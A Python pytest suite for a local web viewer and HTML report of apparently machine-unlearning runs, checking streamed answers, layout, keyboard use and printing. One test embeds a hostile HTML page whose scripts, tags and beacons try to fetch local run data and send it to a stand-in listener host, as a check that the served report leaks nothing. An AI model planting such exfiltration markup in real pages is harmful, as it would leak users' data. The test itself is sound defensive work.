"""`msa-lite web` and report.html in a real browser: what is answered, what is asked for, how pages fit."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import signal
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import msa_lite
from msa_lite.errors import BusyError, MismatchError, UsageError
from msa_lite.evals.engine.models import load_model
from msa_lite.io.finished.seal import in_use
from msa_lite.pipeline.verbs.ask import Question, open_panel
from msa_lite.strengths import Strengths
from msa_lite.web.facts import page_facts
from tests.e2e.conftest import CallCli, finish, hashes, read_lines, sweep_recipe
from tests.support.browser import ANSWERED, Browser, browser, has_browser
from tests.support.stories import STORIES, page_of

READY = "document.body.dataset.view === 'ask'"
TEXTS = """Object.fromEntries([...document.querySelector('.entry').querySelectorAll('.answer')]
  .map(card => [card.classList[1] || card.firstElementChild.innerText, card.querySelector('.text').innerText]))"""
MODELS = ("target", "unlearned", "ideal")


def first_row(run: Path, model: str = "unlearned") -> dict[str, Any]:
    return read_lines(run / f"evaluation/{model}/forget.jsonl")[0]


def generated(run: Path, model: str) -> str:
    return str(first_row(run, model)["generated"])


@pytest.fixture(scope="module")
def finished(knowing: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run whose models answer in words, with a choice between two points, and a task vector's beside it."""
    recipe = sweep_recipe(knowing, tmp_path_factory.mktemp("knowing") / "run")
    recipe["evaluate"]["max_new_tokens"] = 12
    recipe["merge"] = {"filter": 1.0}
    return finish(recipe)


@pytest.fixture(scope="module")
def address(finished: Path) -> Iterator[str]:
    """The address that the command prints; Ctrl-C ends it, and nothing in the run has changed."""
    before = hashes(finished)
    command = [sys.executable, "-m", "msa_lite", "web", str(finished)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        yield process.stdout.readline().strip()
        process.send_signal(signal.SIGINT)
        assert process.wait(60) == 0
    assert hashes(finished) == before


def ask(address: str, text: str, model: str = "unlearned", **more: Any) -> list[dict[str, Any]]:
    body = json.dumps({"text": text, "model": model, **more}).encode()
    request = urllib.request.Request(f"{address}answers", body, {"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=120) as response:
        return [json.loads(line.removeprefix(b"data: ")) for line in response if line.startswith(b"data: ")]


def answer(events: list[dict[str, Any]]) -> str:
    return str(next(event["answer"] for event in events if "answer" in event))


def test_answers_are_those_of_the_scores_token_by_token(address: str, finished: Path) -> None:
    with pytest.raises(BusyError, match="a page of this run is open"), in_use(finished, alone=True):
        pass
    for name in MODELS:
        events = ask(address, first_row(finished)["question"], name)
        texts = [event["text"] for event in events if "text" in event]
        assert texts[-1] == answer(events) == generated(finished, name)
        assert len(set(texts)) > 1
        assert all(answer(events).startswith(text.strip()) for text in texts)


def test_turns_a_system_message_and_a_length_reach_the_model(address: str, finished: Path) -> None:
    panel = open_panel(finished)
    tokenizer, target = panel.prompter.tokenizer, load_model(panel.sources["target"].folder)
    earlier = [["Where was Otan born?", "In Marton."], ["Who taught him?", "Iva did."]]
    said = ask(address, "Why?", "target", system="Be brief.", earlier=earlier, tokens=3)
    turns = "".join(f"Question: {question}\nAnswer: {reply}\n\n" for question, reply in earlier)
    ids = tokenizer(f"Be brief.\n\n{turns}Question: Why?\nAnswer:", return_tensors="pt")["input_ids"]
    alone = target.generate(ids, max_new_tokens=3, do_sample=False)[0, ids.shape[1] :]  # by plain transformers
    assert answer(said) == tokenizer.decode(alone, skip_special_tokens=True).strip()
    texts = open_panel(finished)
    with pytest.raises(UsageError, match="over texts"):
        replace(texts, continues=True).answer("target", Question("a", system="b"))
    monkey = replace(texts.prompter, use_chat=True)
    monkey.__dict__["takes_system"] = False
    with pytest.raises(UsageError, match="takes no system message"):
        replace(texts, prompter=monkey).answer("target", Question("a", system="b"))


def test_any_strengths_are_those_of_the_merge(address: str, finished: Path, tmp_path: Path) -> None:
    question = first_row(finished)["question"]

    def unlearned(**strengths: float) -> str:
        return answer(ask(address, question, strengths=strengths))

    chosen = open_panel(finished, several=True).points
    assert chosen is not None
    assert unlearned(**chosen.chosen.values) == generated(finished, "unlearned")
    assert unlearned(alpha=0.0) == generated(finished, "target")
    shutil.copytree(finished, tmp_path / "run")
    recipe = msa_lite.recipe.load_recipe(finished / "recipe.yaml")
    far = {"target": recipe.target, "forget": str(finished / "vectors/forget"), "alpha": 40.0}
    shutil.rmtree(tmp_path / "run/model")
    msa_lite.merge(out=tmp_path / "run/model", prior=recipe.prior, **far)
    stored = msa_lite.ask(tmp_path / "run", question).answers["unlearned"]
    assert unlearned(alpha=40.0) == stored != generated(finished, "target")
    assert ask(address, question, strengths={"alpha": 1.0, "beta": 1.0})[-2].keys() == {"error"}  # no retain vector


def test_the_command_of_the_page_keeps_the_vectors_and_the_folder(
    finished: Path, tmp_path: Path, call_cli: CallCli
) -> None:
    moved = shutil.copytree(finished, tmp_path / "a {filter} run")  # its recipe still names the former place
    command = page_facts(open_panel(moved, several=True))["strengths"]["command"]
    for strength in (1.0, "off"):
        keys = {"alpha": 0.75, "beta": 0, "filter": strength}
        words = [*shlex.split(command["start"]), *(f"{command[name]}={value}" for name, value in keys.items())]
        ahead = json.loads(call_cli(*words[1:], "--dry-run", "--json")[1])
        assert Path(ahead["output"]) == moved
        states = {stage["stage"]: stage["state"] for stage in ahead["stages"]}
        assert (states["forget vector"], states["merge"]) == ("done", "anew")
        assert states.get("filtered forget vector, λ = 1") == (None if strength == "off" else "done")
        assert states["scores: target"] == "anew"  # the rows that chose are scored, too


def test_the_page_has_the_rows_failures_first_and_the_points(finished: Path) -> None:
    panel = open_panel(finished, several=True)
    facts = page_facts(panel)
    assert json.loads(json.dumps(facts)) == facts
    failures = [row["failed"]["unlearned"] for row in facts["rows"] if row["set"] == "forget"]
    assert failures == sorted(failures, reverse=True)
    assert {row["question"] for row in facts["rows"]} >= {first_row(finished)["question"]}
    spots = [Strengths.of(spot["values"]) for spot in facts["chart"]["spots"] if spot["values"]]
    assert {spot.alpha for spot in spots} == {0.5, 1.0}
    assert all(row["kind"] in facts["kinds"] for row in facts["rows"] if row["set"] == "forget")
    assert {row["set"] for row in facts["rows"]} == {"forget", "retain", "holdout"}
    assert [spot["role"] for spot in facts["chart"]["spots"]].count("chosen") == 1


def test_a_run_without_models_is_refused_and_one_without_vectors_keeps_its_strengths(
    finished: Path, tmp_path: Path, call_cli: CallCli
) -> None:
    copy = tmp_path / "run"
    shutil.copytree(finished, copy)
    recipe = copy / "recipe.yaml"
    text = recipe.read_text()
    recipe.write_text(text.replace("alpha:\n  - 0.5\n  - 1.0", "alpha: 0.25"))  # as a run that stopped early leaves it
    former = open_panel(copy, several=True)
    assert former.points is None
    assert "goes on" in former.fixed, "the page would call its strengths those of the model"
    recipe.write_text(text)
    shutil.rmtree(copy / "vectors")
    panel = open_panel(copy, several=True)
    assert panel.points is None
    assert "vectors" in page_facts(panel)["fixed"]
    baseline = open_panel(finished / "baselines/task_vector", several=True)
    assert baseline.points is None
    assert "task_vector" in page_facts(baseline)["fixed"]
    shutil.rmtree(copy / "model")
    assert call_cli("web", tmp_path / "run/evaluation")[0] == 2


def test_a_model_that_does_not_fit_into_memory_is_refused_before_it_is_loaded(
    finished: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("accelerate.utils.get_max_memory", lambda: {"cpu": 1000, 0: 1000})
    with pytest.raises(MismatchError, match="GB of memory in fp32"):
        open_panel(finished, several=True)


@pytest.fixture(scope="module")
def window(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browser(tmp_path_factory.mktemp("profile")) as one:
        yield one


QUIET = 2.0  # seconds after which nothing comes any more
needs_browser = pytest.mark.skipif(not has_browser(), reason="needs chromium, chromedriver and selenium")


@needs_browser
@pytest.mark.parametrize(("width", "scheme"), [(380, "light"), (1400, "dark")])
def test_the_page_fits_reads_and_asks_nobody_else(address: str, window: Browser, width: int, scheme: str) -> None:
    window.open_address(address, width, scheme)
    window.wait(READY)
    window.run("document.querySelectorAll('details').forEach(one => one.open = true)")
    window.run("document.querySelector('.spot:not(.now)').dispatchEvent(new Event('click'))")
    window.run("document.querySelector('#rows button').click()")
    window.wait(ANSWERED)
    assert window.run("return document.querySelector('h1').innerText") == "run"
    assert window.overflow() == []
    assert window.faint() == []
    assert window.faults() == []
    assert {url.startswith(address) for url in window.requests()} == {True}


@needs_browser
def test_everything_works_by_keyboard(address: str, finished: Path, window: Browser) -> None:
    question = first_row(finished)["question"]
    window.open_address(address)
    window.wait(READY)
    window.keys("#question", question, "\ue007")  # Enter
    window.wait(ANSWERED)
    said = {name: generated(finished, name) for name in MODELS}
    assert window.run(f"return {TEXTS}") == {"expected": first_row(finished)["answer"], **said}
    point = "return document.getElementById('point').textContent"
    before = window.run(point)
    window.keys("#tried", "\ue015" if window.run("return tried.selectedIndex === 1") else "\ue013")  # an arrow
    assert window.run(point) != before
    window.wait(ANSWERED)
    assert window.run("return document.querySelectorAll('.answer.unlearned').length") == 2, "beside the first one"
    window.keys("#alpha", "\ue009a\ue000", "0\ue004")  # all marked; α = 0; Tab
    window.wait(f"{ANSWERED} && document.getElementById('point').textContent.startsWith('α = 0,')")
    assert window.run(f"return {TEXTS}.unlearned") == generated(finished, "target")
    shown = "return document.getElementById('command').textContent"
    start = page_facts(open_panel(finished, several=True))["strengths"]["command"]["start"]
    assert window.run(shown) == f"{start} forget.alpha=0 retain.beta=0 merge.filter=1"
    window.run("lambda.value = '0'; lambda.dispatchEvent(new Event('change'))")
    assert window.run(shown).endswith(" merge.filter=off")


@needs_browser
def test_questions_stay_go_on_and_are_saved(address: str, finished: Path, window: Browser) -> None:
    window.open_address(address)
    window.wait(READY)
    window.keys("#question", first_row(finished)["question"])
    other = "document.querySelector('.spot:not(.now)').dispatchEvent(new Event('click'))"
    window.run(f"document.getElementById('ask').requestSubmit(); {other}")  # the strengths change during an answer
    window.wait(ANSWERED)
    texts = window.run(f"return {TEXTS}")
    assert (texts["target"], texts["ideal"]) == (generated(finished, "target"), generated(finished, "ideal"))
    marked = "[...document.querySelectorAll('.answer.ideal mark')].map(one => one.innerText)"
    words = {name: {*re.findall(r"\w+", texts[name])} for name in ("target", "ideal")}
    assert {*window.run(f"return {marked}")} == words["ideal"] - words["target"]
    window.run("document.querySelector('.on').click()")
    for text in ("<i>Why?</i>", "And \u05d0?"):
        window.run(f"question.value = {json.dumps(text)}; ask.requestSubmit()")
    window.wait(ANSWERED)
    assert window.run("return document.querySelectorAll('.entry').length") == 3
    window.run("URL.createObjectURL = blob => { blob.text().then(text => document.saved = text); return 'data:,' }")
    saved = {}
    for ending in ("json", "md"):
        window.run(f"document.saved = ''; document.getElementById('save-{ending}').click()")
        window.wait("document.saved")
        saved[ending] = window.run("return document.saved")
    first, second, third = json.loads(saved["json"])["questions"]
    assert (first["row"]["set"], first["row"]["expected"]) == ("forget", first_row(finished)["answer"])
    assert (second["follows"], third["follows"]) == (1, 2)
    turns = [[one["question"], one["answers"][0]["answer"]] for one in (first, second)]
    assert third["answers"][0]["answer"] == answer(ask(address, third["question"], "target", earlier=turns))
    assert "&lt;i>Why?" in saved["md"]
    assert first["answers"][0]["answer"] in saved["md"]


@needs_browser
def test_a_blind_question_tells_nothing_before_the_choice(address: str, finished: Path, window: Browser) -> None:
    window.open_address(address)
    window.wait(READY)
    window.run("document.querySelector('#rows button').click()")  # the same question, openly
    window.wait(ANSWERED)
    window.click("#blind")
    page = "return document.getElementById('history').innerHTML + document.getElementById('rows').innerHTML"
    orders, labels = set(), "return [...document.querySelectorAll('.entry:first-child h4')].map(one => one.innerText)"
    while len(orders) < 2:  # twelve times the same order has a chance of 1 in 6^11
        window.run("document.querySelector('#rows button').click()")
        window.wait(ANSWERED)
        assert not re.search(r"target|unlearned|ideal|\d s<", window.run(page))
        assert window.run(labels) == ["expected", "Answer A", "Answer B", "Answer C"]
        window.run("document.querySelector('.pick:not([hidden])').click()")
        orders.add(tuple(window.run(labels)))
    counts = re.findall(r"\d+", window.run("return document.getElementById('tally').innerText"))
    assert sum(map(int, counts)) == window.run("return document.querySelectorAll('.entry').length") - 1


@needs_browser
@pytest.mark.slow
def test_a_run_that_is_not_finished_is_watched_until_it_can_be_asked(
    finished: Path, window: Browser, tmp_path: Path
) -> None:
    copy = shutil.copytree(finished, tmp_path / "copy")
    manifest = copy / "model/manifest.json"
    text = manifest.read_text()
    manifest.unlink()
    command = [sys.executable, "-m", "msa_lite", "web", str(copy)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as it:
        assert it.stdout is not None
        window.open_address(it.stdout.readline().strip(), 380, "dark")
        window.wait("document.body.dataset.view === 'watch'")
        assert "recipe.yaml" in window.run("return ended.innerText")
        assert window.run("return document.querySelectorAll('#losses svg').length") == 1
        assert (window.overflow(), window.faint(), window.faults()) == ([], [], [])
        with in_use(copy, alone=True):  # a run may begin
            manifest.write_text(text)
            window.wait("!document.getElementById('to-ask').hidden")
            assert "has ended" in window.run("return sentence.innerText")
            marker = copy / "sweep.partial/.msa-lite-partial.json"
            marker.parent.mkdir()
            marker.write_text("{}")  # as a kill leaves it
            window.wait("document.querySelector('tr.stopped')")
            assert "No process" in window.run("return sentence.innerText")
        window.click("#to-ask")
        window.wait(READY)
        with pytest.raises(BusyError), in_use(copy, alone=True):
            pass
        it.send_signal(signal.SIGINT)
        assert it.wait(60) == 0


@needs_browser
def test_rows_are_searched_filtered_and_asked(address: str, finished: Path, window: Browser) -> None:
    window.open_address(address)
    window.wait(READY)
    rows = "return document.querySelectorAll('#rows > li').length"
    everything = window.run(rows)
    subject = first_row(finished)["subject"]
    window.keys("#search", subject)
    assert 0 < window.run(rows) < everything
    window.run("document.querySelector('#rows button').click()")
    window.wait(ANSWERED)
    assert subject in window.run("return document.getElementById('question').value")
    assert "row" in window.run("return document.querySelector('.entry .state').innerText")
    window.keys("#search", "no such row")
    assert window.run(rows) == 0


HOSTILE = """<!doctype html><base href="AT/"><meta name="referrer" content="unsafe-url">
<meta http-equiv="refresh" content="1; url=AT/refresh"><link rel="stylesheet" href="AT/css">
<link rel="icon" href="AT/icon"><link rel="prefetch" href="AT/prefetch"><link rel="manifest" href="AT/manifest">
<link rel="preload" as="image" href="AT/preload"><link rel="modulepreload" href="AT/module">
<link rel="prerender" href="AT/prerender"><link rel="preconnect" href="AT">
<style>@import url(AT/import); body {background: url(AT/background)}
@font-face {font-family: f; src: url(AT/font)} p {font-family: f}</style>
<script src="AT/script"></script><script type="speculationrules">{"prefetch": [{"urls": ["AT/rules"]}]}</script>
<script>document.title = "ran"; fetch("HERErun.json").then(r => r.text()).then(text => fetch("AT/run?" + text));
navigator.sendBeacon("AT/beacon", "x"); new WebSocket("AT/socket".replace("http", "ws")); window.open("AT/window")
setTimeout(() => location = "AT/top", 500)</script>
<body onload="new Image().src = 'AT/onload'"><p>text<img src="AT/image"><iframe src="AT/frame"></iframe>
<iframe srcdoc="<img src='AT/inner'>"></iframe><iframe src="HERErun.json"></iframe><object data="AT/object"></object>
<embed src="AT/embed"><video src="AT/video" poster="AT/poster"></video><audio autoplay src="AT/audio"></audio>
<svg><image href="AT/svg"/><use href="AT/use#a"/></svg><input autofocus onfocus="fetch('AT/focus')">
<form action="AT/form"><button id="send">Send</button></form>
<form action="HEREanswers" method="post" enctype="text/plain"><button id="ask">Ask</button></form>
<a id="link" href="AT/link" ping="AT/ping" referrerpolicy="unsafe-url">a link</a>"""


@contextmanager
def listener() -> Iterator[tuple[str, dict[str, str]]]:
    """A server of this machine, and the Referer of each request by its path; "" for a bare connection (preconnect)."""
    came: dict[str, str] = {}

    class Notes(BaseHTTPRequestHandler):
        def setup(self) -> None:
            came[""] = ""
            super().setup()

        def do_GET(self) -> None:
            came[self.path[1:].partition("?")[0]] = self.headers.get("Referer", "")
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *words: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Notes) as server:
        threading.Thread(target=server.serve_forever).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", came
        finally:
            server.shutdown()


@needs_browser
def test_a_changed_report_reads_nothing_and_sends_nothing(
    address: str, finished: Path, window: Browser, tmp_path: Path
) -> None:
    report = finished / "report.html"
    text = report.read_text("utf-8")
    window.open(report)
    looks = window.colours(), window.run("return document.body.scrollHeight")
    window.open_address(f"{address}report.html")
    assert (window.colours(), window.run("return document.body.scrollHeight")) == looks
    assert (window.overflow(), window.faint(), window.faults()) == ([], [], [])
    with listener() as (place, came):
        hostile = HOSTILE.replace("AT", place).replace("HERE", address)
        (tmp_path / "control.html").write_text(hostile)
        window.open(tmp_path / "control.html")  # without the server's headers: the listener hears it
        time.sleep(QUIET)
        assert {"image", "css", "script", "beacon", "frame"} <= {*came}
        window.open_address(f"{address}")
        window.wait(READY)
        came.clear()
        try:
            report.write_text(hostile)
            window.open_address(f"{address}report.html")
            time.sleep(QUIET)
            for button in ("send", "ask"):
                window.click(f"#{button}")
            time.sleep(QUIET / 2)
            assert ({*came} - {""}, window.run("return document.title")) == (set(), "")
            window.click("#link")
            time.sleep(QUIET / 2)
            assert came == {"": "", "link": ""}  # what the user clicks on, without the address
        finally:
            report.write_text(text, "utf-8")


# report.html in a real browser: what it asks for, how it fits, how it reads in the dark and on paper.


WIDTHS = (380, 1400)
_FOLDED = """return [...document.querySelectorAll('main details > :not(summary)')]
  .map(part => [part.parentElement.className, part.checkVisibility()].join())"""
_CONTENTS = """const links = [...document.querySelectorAll('nav a')], screen = document.documentElement.clientHeight;
const at = link => link.getBoundingClientRect();
return links.filter(link => link.checkVisibility() && at(link).top >= 0 && at(link).bottom <= screen).length"""
_NOTE = """const summary = document.querySelector('main details:not(.on-paper) > summary');
return getComputedStyle(summary, '::after').content"""
PAPER = 688  # pixels between the margins of an A4 page
MOST_PAGES = 8


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The page of every story."""
    folder = tmp_path_factory.mktemp("pages")
    paths = {name: folder / f"{name}.html" for name in STORIES}
    for name, path in paths.items():
        path.write_text(page_of(name), "utf-8")
    return paths


@needs_browser
@pytest.mark.parametrize("name", STORIES)
def test_a_page_asks_for_nothing_logs_nothing_and_fits_every_screen(
    name: str, window: Browser, pages: dict[str, Path]
) -> None:
    for width in WIDTHS:
        window.open(pages[name], width)
        assert window.run("document.querySelectorAll('details').forEach(one => one.open = true)") is None
        assert (width, window.overflow()) == (width, [])
        assert window.requests() == [pages[name].as_uri()]
        assert window.faults() == []


@needs_browser
@pytest.mark.parametrize("name", ["full", "failed", "huge"])
def test_every_text_can_be_read_by_day_and_by_night(name: str, window: Browser, pages: dict[str, Path]) -> None:
    colours = {}
    for scheme in ("light", "dark"):
        window.open(pages[name], scheme=scheme)
        colours[scheme] = window.colours()
        assert (scheme, window.faint()) == (scheme, [])
    for light, dark in zip(*colours.values(), strict=True):
        assert light != dark


@needs_browser
@pytest.mark.parametrize("name", ["full", "huge"])
def test_paper_is_white_holds_what_matters_and_cuts_nothing(name: str, window: Browser, pages: dict[str, Path]) -> None:
    window.open(pages[name], PAPER, scheme="dark", media="print")
    assert window.colours()[0] == "rgb(255, 255, 255)"
    assert set(window.run(_FOLDED)) == {"on-paper,true", ",false"}
    assert "not printed" in window.run(_NOTE)
    assert window.run("return document.querySelector('nav').checkVisibility()") is False
    assert (window.overflow(), window.broken()) == ([], [])


@needs_browser
def test_a_page_is_printed_on_few_pages(window: Browser, pages: dict[str, Path]) -> None:
    window.open(pages["full"], scheme="dark")
    printed = window.pdf()
    assert printed.startswith(b"%PDF")
    assert 1 < len(re.findall(rb"/Type\s*/Page\b", printed)) <= MOST_PAGES


@needs_browser
def test_the_contents_stay_beside_the_text_and_fold_on_a_phone(window: Browser, pages: dict[str, Path]) -> None:
    window.open(pages["full"], 1400)
    count = window.run("return document.querySelectorAll('section').length")
    assert window.run(_CONTENTS) == count
    window.run("location.hash = '#limits'")
    assert window.run(_CONTENTS) == count
    window.open(pages["full"], 380)
    assert window.run(_CONTENTS) == 0
    window.run("document.querySelector('nav details').open = true; document.querySelector('nav').scrollIntoView()")
    assert window.run(_CONTENTS) == count


@needs_browser
@pytest.mark.pictures
def test_a_run_ends_with_a_page_that_tells_what_it_did(window: Browser, recipe: dict[str, Any]) -> None:
    msa_lite.run(recipe)
    page = Path(recipe["output"]) / "report.html"
    window.open(page, 380)
    assert (window.overflow(), window.faint(), window.faults()) == ([], [], [])
    sections = window.run("return [...document.querySelectorAll('section')].map(one => one.id)")
    assert sections == [
        "result", "verdict", "scores", "method", "training", "update", "probe", "provenance", "limits",
    ]  # fmt: skip
    pictures = window.run("return [...document.querySelectorAll('svg')].map(one => one.ariaLabel)")
    assert [label.split()[0] for label in pictures] == ["Dot", "Dot", "Line"]
